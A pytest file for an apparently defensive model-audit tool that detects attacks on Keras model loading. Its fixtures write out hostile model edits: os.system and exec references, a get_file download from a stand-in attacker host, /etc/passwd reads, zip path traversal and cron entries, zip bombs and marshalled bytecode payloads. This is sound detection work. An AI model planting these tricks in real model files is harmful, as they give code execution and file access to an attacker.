"""MA401-MA408: the known attacks on Keras model loading, seen without running them.

Every attack file starts from a real file saved by Keras 3 or tf_keras and is then edited the way an
attacker would: a module reference written into config.json, a member added to the zip, a link added
to the weights with h5py. One table of cases, one test; clean real models must raise no MA4xx at all;
and a payload that would create a file if it ever ran leaves no file behind.
"""

from __future__ import annotations

import base64
import hashlib
import json
import marshal
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

import modelaudit
from modelaudit.checks.security import carries_code, looks_like_code_object
from tests.security import callables, containers, payloads
from tests.security.kit import (
    K2_KERNEL, K3_KERNEL, ZEROS, Case, b64_code, build_real, double, edit_h5, external_link, external_storage, fn_ref,
    h5_config, h5_training, h5_tree, huge, k3, k3_members, k3_weights, lambda_function, layer_cfg, payload_code,
    raw_marshal_in_training, rezip, set_at, virtual,
)

ROOT = Path(__file__).resolve().parents[1]
TOPICS = (callables, containers, payloads)


@pytest.fixture(scope="module")
def real(tmp_path_factory) -> dict:
    out = tmp_path_factory.mktemp("real")
    files = build_real(out)
    for topic in TOPICS:
        for name, build in topic.BASES.items():
            files[name] = build(out)
    return files


# ---- the attack table --------------------------------------------------------------------------


CASES = [
    # MA401: serialized bytecode, at any depth and in any string
    Case("k3-real-lambda", "k3_lambda", None, "MA401", "lam", "`config.layers[1].config.function`"),
    Case("k2-real-lambda", "k2_lambda", None, "MA401", "lam", "`config.layers[1].config.function`"),
    Case("k3-lambda-in-nested-model", "k3_nested_lambda", None, "MA401", "inner/lam",
         "`config.layers[1].config.layers[1].config.function`"),
    Case("k2-lambda-output-shape", "k2_lambda", h5_config(lambda cfg: layer_cfg(cfg, 1).update(
        output_shape=[b64_code(), None, None], output_shape_type="lambda")),
        "MA401", "lam", "`config.layers[1].config.output_shape`"),
    Case("marshal-string-in-dense-config", "k3_dense", k3(set_at(["config", "layers", 1, "config", "note"], b64_code())),
         "MA401", "dense", "`config.layers[1].config.note`",
         twin=k3(set_at(["config", "layers", 1, "config", "note"], base64.b64encode(b"trained on 2026-11-30" * 4).decode()))),
    Case("marshal-string-in-compile-config", "k3_dense", k3(set_at(["compile_config", "loss_weights"], {"out": b64_code()})),
         "MA401", None, "`compile_config.loss_weights.out`"),
    Case("raw-marshal-in-training-config", "k2_dense", h5_training(raw_marshal_in_training),
         "MA401", None, "`training_config.loss_weights.out`"),
    # MA402: a Lambda by reference
    Case("k3-named-lambda", "k3_named_lambda", None, "MA402", "lam", "`config.layers[1]`"),
    # MA403: module references outside the Keras family (CVE-2025-1550)
    Case("os-system-as-lambda-function", "k3_lambda", k3(lambda_function(fn_ref("os", "system"), {"command": "touch x"})),
         "MA403", "lam", "`os.system` at `config.layers[1].config.function`"),
    Case("dangerous-even-when-registered", "k3_lambda", k3(lambda_function(fn_ref("subprocess", "run", "run"))),
         "MA403", "lam", "`subprocess.run`"),
    Case("foreign-initializer", "k3_dense", k3(set_at(["config", "layers", 1, "config", "kernel_initializer"],
         {"module": "evil_pkg.payload", "class_name": "Boom", "config": {}, "registered_name": None})),
         "MA403", "dense", "`evil_pkg.payload.Boom` at `config.layers[1].config.kernel_initializer`",
         twin=k3(set_at(["config", "layers", 1, "config", "kernel_initializer"],
                 {"module": "keras.initializers", "class_name": "HeNormal", "config": {"seed": None}, "registered_name": None}))),
    Case("builtins-exec-as-loss", "k3_dense", k3(set_at(["compile_config", "loss"], fn_ref("builtins", "exec"))),
         "MA403", None, "`builtins.exec` at `compile_config.loss`"),
    Case("training-config-naming-no-objective", "k2_dense",
         h5_training(lambda cfg: (cfg.clear(), cfg.update(metrics=[fn_ref("posix", "system")]))),
         "MA403", None, "`posix.system` at `training_config.metrics[0]`"),
    Case("k2-lambda-module-os", "k2_lambda", h5_config(lambda cfg: layer_cfg(cfg, 1).update(module="os")),
         "MA403", "lam", "module `os` at `config.layers[1].config.module`"),
    # MA404: Keras's own functions as gadgets, file paths and URLs
    Case("cve-2025-8747-get-file", "k3_lambda", k3(lambda_function(
        fn_ref("keras.utils", "get_file"), {"origin": "https://attacker.example/x.py", "cache_dir": "/tmp"})),
        "MA404", "lam", "`keras.utils.get_file` at `config.layers[1].config.function`"),
    Case("cve-2025-9906-set-global-attribute", "k3_lambda", k3(lambda_function(
        fn_ref("keras.src.backend.common.global_state", "set_global_attribute"),
        {"name": "safe_mode_saving", "value": False})),
        "MA404", "lam", "set_global_attribute` at `config.layers[1].config.function`"),
    Case("cve-2025-9906-enable-unsafe", "k3_lambda", k3(lambda_function(fn_ref("keras.config", "enable_unsafe_deserialization"))),
         "MA404", "lam", "`keras.config.enable_unsafe_deserialization`"),
    Case("load-model-with-safe-mode-off", "k3_lambda", k3(lambda_function(fn_ref("keras.models", "load_model"), {"safe_mode": False})),
         "MA404", "lam", "`safe_mode: false` at `config.layers[1].config.arguments.safe_mode`"),
    Case("cve-2025-12058-vocabulary-path", "k3_lookup", k3(set_at(["config", "layers", 1, "config", "vocabulary"], "/etc/passwd")),
         "MA404", "lookup", "StringLookup `vocabulary` '/etc/passwd' at `config.layers[1].config.vocabulary`"),
    Case("vocabulary-url", "k3_lookup", k3(set_at(["config", "layers", 1, "config", "vocabulary"], "https://attacker.example/v")),
         "MA404", "lookup", "`config.layers[1].config.vocabulary`",
         twin=k3(set_at(["config", "layers", 1, "config", "vocabulary"], ["https", "attacker", "example"]))),
    Case("tfsmlayer", "k3_dense", k3(lambda cfg: cfg["config"]["layers"][2].update(
        class_name="TFSMLayer", config={"name": "out", "filepath": "/srv/models/evil"})),
        "MA404", "out", "`TFSMLayer` at `config.layers[2]`"),
    # MA405: the zip against the .keras layout
    Case("zip-python-member", "k3_dense", k3_members(("payload.py", b"import os", zipfile.ZIP_STORED)),
         "MA405", None, "'payload.py'"),
    Case("zip-dotdot-member", "k3_dense", k3_members(("../../site-packages/evil.pth", b"import os", zipfile.ZIP_STORED)),
         "MA405", None, "`..` path"),
    Case("zip-absolute-member", "k3_dense", k3_members(("/etc/cron.d/evil", b"* * * * * root true", zipfile.ZIP_STORED)),
         "MA405", None, "an absolute path"),
    Case("zip-duplicate-config", "k3_dense", k3_members(("config.json", b'{"class_name": "Sequential", "config": {"layers": []}}',
                                                         zipfile.ZIP_STORED)),
         "MA405", None, "'config.json' appears twice"),
    Case("zip-bomb-ratio", "k3_dense", k3_members(("assets/blob.bin", ZEROS, zipfile.ZIP_DEFLATED)),
         "MA405", None, "'assets/blob.bin' inflates"),
    Case("zip-unexpected-member", "k3_dense", k3_members(("notes.txt", b"hello", zipfile.ZIP_STORED)),
         "MA405", None, "outside the `.keras` layout"),
    # MA406: HDF5 references outside the file (CVE-2026-1669)
    Case("h5-external-link", "k2_dense", h5_tree(external_link), "MA406", "dense", "external link to /etc/passwd"),
    Case("h5-external-storage", "k2_dense", h5_tree(external_storage(K2_KERNEL)), "MA406", "dense", "external storage"),
    Case("h5-virtual-dataset", "k2_dense", h5_tree(virtual(K2_KERNEL)), "MA406", "dense", "virtual dataset mapping"),
    Case("keras-weights-external-storage", "k3_dense", k3_weights(external_storage(K3_KERNEL)),
         "MA406", "dense", "external storage"),
    # MA407: a registered custom class
    Case("k3-registered-custom-layer", "k3_custom", None, "MA407", "scale", "'Acme>Scale'"),
    # MA408: a dataset declaring far more than the file holds (CVE-2026-0897)
    Case("h5-oversized-dataset", "k2_dense", h5_tree(huge(K2_KERNEL)), "MA408", "dense", "4,398,046,511,104 bytes"),
    Case("keras-oversized-dataset", "k3_dense", k3_weights(huge(K3_KERNEL)), "MA408", "dense", "4,398,046,511,104 bytes"),
]


CASES += [case for topic in TOPICS for case in topic.CASES]
TWINS = [case for case in CASES if case.twin is not None]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_attack_is_seen(case, real, tmp_path):
    path = real[case.base] if case.make is None else case.make(real[case.base], str(tmp_path / case.id), str(tmp_path))
    before = hashlib.sha256(Path(path).read_bytes()).hexdigest()
    report = modelaudit.audit(path)
    fr = report.files[0]
    assert fr.error is None, fr.error
    assert not fr.internal_errors, fr.internal_errors
    hits = [f for f in fr.findings if f.code == case.code]
    assert hits, f"{case.code} not raised; found {[(f.code, f.message) for f in fr.findings]}"
    assert any(f.layer == case.layer and case.where in f.message for f in hits), [(f.layer, f.message) for f in hits]
    assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == before  # never write to an input


@pytest.mark.parametrize("case", TWINS, ids=[c.id for c in TWINS])
def test_benign_twin_is_read_and_clean(case, real, tmp_path):
    """The same trick without its payload: Keras would load it, so we read it, and it raises no MA4xx."""
    path = case.twin(real[case.base], str(tmp_path / f"{case.id}-twin"), str(tmp_path))
    before = hashlib.sha256(Path(path).read_bytes()).hexdigest()
    fr = modelaudit.audit(path).files[0]
    assert fr.error is None, fr.error
    assert not fr.internal_errors, fr.internal_errors
    assert not [(f.code, f.message) for f in fr.findings if f.code.startswith("MA4")]
    assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == before


def test_severity_ignores_the_declared_keras_version(real, tmp_path):
    """The attacker writes metadata.json too: an old or a future version changes nothing."""
    for version in ("2.0.0", "3.99.0"):
        path = str(tmp_path / f"v{version}.keras")
        with zipfile.ZipFile(real["k3_lambda"]) as zin, zipfile.ZipFile(path, "w") as zout:
            for info in zin.infolist():
                data = zin.read(info)
                if info.filename == "metadata.json":
                    data = json.dumps({**json.loads(data), "keras_version": version}).encode()
                zout.writestr(info.filename, data)
        found = {(f.code, f.severity.value) for f in modelaudit.audit(path).findings}
        assert ("MA401", "error") in found


def test_ratio_bound_is_an_option(real, tmp_path):
    path = rezip(real["k3_dense"], str(tmp_path / "bomb.keras"), extra=(("assets/blob.bin", ZEROS, zipfile.ZIP_DEFLATED),))
    assert "MA405" in [f.code for f in modelaudit.audit(path).findings]
    relaxed = {"rules": {"archive-anomaly": {"max-compression-ratio": 100000.0}}}
    assert "MA405" not in [f.code for f in modelaudit.audit(path, relaxed).findings]


# ---- no false positives on clean real models -----------------------------------------------------


@pytest.fixture(scope="module")
def applications(tmp_path_factory) -> list:
    import keras

    out = tmp_path_factory.mktemp("apps")
    paths = []
    for name in ("MobileNetV3Small", "EfficientNetB0"):  # Rescaling, Normalization, DTypePolicy objects ...
        model = getattr(keras.applications, name)(weights=None)
        model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
        paths.append(str(out / f"{name}.keras"))
        keras.saving.save_model(model, paths[-1])
    return paths


def test_no_security_finding_on_clean_real_models(real, applications):
    samples = sorted(str(p) for p in (ROOT / "samples").iterdir() if p.suffix in (".keras", ".h5"))
    clean = [real["k3_dense"], real["k2_dense"], real["k3_lookup"]] + applications + samples
    for path in clean:
        report = modelaudit.audit(path)
        assert report.files[0].error is None, (path, report.files[0].error)
        security = [(f.code, f.layer, f.message) for f in report.findings if f.code.startswith("MA4")]
        assert not security, (path, security)


def test_a_multi_file_run_keeps_one_model_at_a_time(real):
    """The shared config walk is kept with the model it was made from: once a file's report is
    dropped, nothing the rules cached keeps its graph alive, and each model has its own walk."""
    import gc
    import weakref

    from modelaudit.api import audit_file, settings_from
    from modelaudit.checks.security import scan

    settings = settings_from(None)
    graphs = []
    for path in (real["k3_dense"], real["k2_dense"], real["k3_lookup"]):
        file_report = audit_file(path, settings)
        assert file_report.error is None
        model = file_report.inferred
        assert scan(model) is scan(model)  # one walk per model, however many rules ask
        graphs.append(weakref.ref(model.graph))
        del file_report, model
    gc.collect()
    assert [g() for g in graphs] == [None, None, None]


# ---- never executed ------------------------------------------------------------------------------


def test_payloads_never_run(real, tmp_path):
    """Files whose payload would create a marker file if Keras loaded them: the check leaves none."""
    marker = tmp_path / "pwned"
    code = base64.encodebytes(marshal.dumps(payload_code(str(marker)))).decode("ascii")

    def k3_payload(cfg):
        layer_cfg(cfg, 1)["function"] = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}

    def k2_payload(cfg):  # bytecode whose globals come from the module the config names
        layer_cfg(cfg, 1).update(function=[code, None, None], function_type="lambda", module="os")

    files = [
        rezip(real["k3_lambda"], str(tmp_path / "payload.keras"), config=k3_payload),
        edit_h5(real["k2_lambda"], str(tmp_path / "payload.h5"), config=k2_payload),
    ]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    result = subprocess.run(
        [sys.executable, "-m", "modelaudit.cli", "check", "--format", "json", *files],
        capture_output=True, text=True, env=env, cwd=str(tmp_path), timeout=120,
    )
    assert result.returncode == 1, result.stderr
    report = json.loads(result.stdout)
    codes = [{f["code"] for f in file["findings"]} for file in report["files"]]
    assert "MA401" in codes[0] and {"MA401", "MA403"} <= codes[1], codes
    assert not marker.exists()
    # ... and the audit imported neither Keras nor TensorFlow to get there.
    probe = subprocess.run(
        [sys.executable, "-c", "import sys, modelaudit; modelaudit.audit(sys.argv[1:]); "
         "print(sorted(m for m in ('keras', 'tensorflow', 'tf_keras', 'torch') if m in sys.modules))", *files],
        capture_output=True, text=True, env=env, cwd=str(tmp_path), timeout=120,
    )
    assert probe.stdout.strip() == "[]", probe.stderr
    assert not marker.exists()


# ---- the recognisers and the walk's bounds --------------------------------------------------------


def test_marshalled_code_is_recognised_by_its_header_only():
    assert carries_code(b64_code())
    assert carries_code(marshal.dumps(payload_code("/x")).decode("latin-1"))
    assert looks_like_code_object(marshal.dumps(double.__code__))
    for text in ("channels_last", "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=", "4" * 64, "Y" * 40, "categorical_crossentropy",
                 base64.b64encode(marshal.dumps([1, 2, 3])).decode(), base64.b64encode(b"c" + b"\xff" * 40).decode()):
        assert not carries_code(text), text


def test_walk_is_iterative_and_bounded():
    from modelaudit.checks.security import MAX_WALK_DEPTH, _Walk

    node = {"leaf": b64_code()}
    for _ in range(5000):  # far deeper than Python's recursion limit
        node = {"config": node}
    walk = _Walk()
    walk.run(node, "")
    kinds = {s.kind for s in walk.out}
    assert kinds == {"too-deep"}
    assert walk.out[0].location.count(".") == MAX_WALK_DEPTH
